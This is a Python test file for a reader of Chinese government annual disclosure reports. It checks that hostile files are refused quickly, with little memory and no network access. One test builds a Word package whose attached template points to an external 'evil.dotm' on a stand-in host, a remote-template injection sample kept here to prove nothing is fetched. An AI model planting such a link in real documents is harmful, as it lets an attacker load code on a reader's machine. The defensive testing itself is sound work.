"""T19–T21: hostile files are refused in a second, in little memory, with a reason; nothing is fetched or written."""

import json
import subprocess
import sys
from pathlib import Path

import pytest

from giyearreport.readers import Unreadable, read
from giyearreport.readers.pdf.child import MOST_MEMORY
from giyearreport.readers.safety import safe_parts
from giyearreport.writers import FORMATS
from tests.readers import ugly
from tests.readers.hostile import REFUSED
from tests.readers.hostile_pdf import HOSTILE_PDFS
from tests.readers.layouts import sample

ROOT = Path(__file__).resolve().parents[2]
FILES = REFUSED | HOSTILE_PDFS
MEGABYTES = 50


@pytest.fixture(scope="module")
def measured(tmp_path_factory) -> dict[str, dict]:
    folder = tmp_path_factory.mktemp("hostile")
    for name, (make, _) in FILES.items():
        (folder / name).write_bytes(make())
    before = sorted(path.name for path in folder.iterdir())
    done = subprocess.run(
        [sys.executable, "-m", "tests.readers.hostile", folder],
        cwd=ROOT,
        capture_output=True,
        encoding="utf-8",
        check=True,
        env={"PYTHONPATH": str(ROOT), "PYTHONUTF8": "1", "PYTHONDONTWRITEBYTECODE": "1"},
    )
    assert sorted(path.name for path in folder.iterdir()) == before
    return {line["name"]: line for line in map(json.loads, done.stdout.splitlines())}


@pytest.mark.parametrize("name", FILES)
def test_hostile_files_are_refused_with_a_reason(measured, name):
    message = measured[name]["message"]
    assert message is not None
    assert message.startswith(FILES[name][1])
    assert "\n" not in message


@pytest.mark.parametrize("name", FILES)
def test_refusing_takes_little_memory(measured, name):
    """How long it takes is measured by ``bench/readers.py --hostile``."""
    assert measured[name]["rise"] <= MEGABYTES


def test_no_hostile_file_makes_a_connection(measured):
    assert [line["sockets"] for line in measured.values()] == [[]] * len(FILES)


def test_the_process_that_reads_pdf_stays_within_its_memory(measured):
    code = 20  # MB of programs, which may not be written to
    assert max(line["below"] for line in measured.values()) <= MOST_MEMORY // 1024 // 1024 + code


SETTINGS = (
    '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/>'
    "</w:settings>"
)
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    f'Type="{ugly.RELATION}/attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/>'
    "</Relationships>"
)


def test_templates_and_pictures_from_elsewhere_are_never_fetched():
    """pytest-socket refuses any connection but to this machine; a linked picture is only remarked on."""
    blocks = ["青石镇2024年政府信息公开工作年度报告", "一、总体情况", "正文一句。", ugly.PICTURE]
    body = "".join(map(ugly.docx_block, blocks))
    data = ugly.package(body, word__settings=SETTINGS, word___rels__settings=RELATIONS)
    reading = read(data, "report.docx")
    assert reading.content.prose["overview"] == "正文一句。"
    assert {"kind": "residue", "section": "overview", "printed": "［图片］"} in reading.as_json()["notes"]


def test_an_honest_document_passes_every_limit():
    parts = safe_parts(FORMATS["docx"].render(sample()))
    assert "word/document.xml" in parts


def test_a_package_that_is_no_document_says_so():
    with pytest.raises(Unreadable, match="压缩包里没有 Word 文档的正文"):
        read(ugly.package("").replace(b"word/document", b"word/nonesuch"), "report.docx")
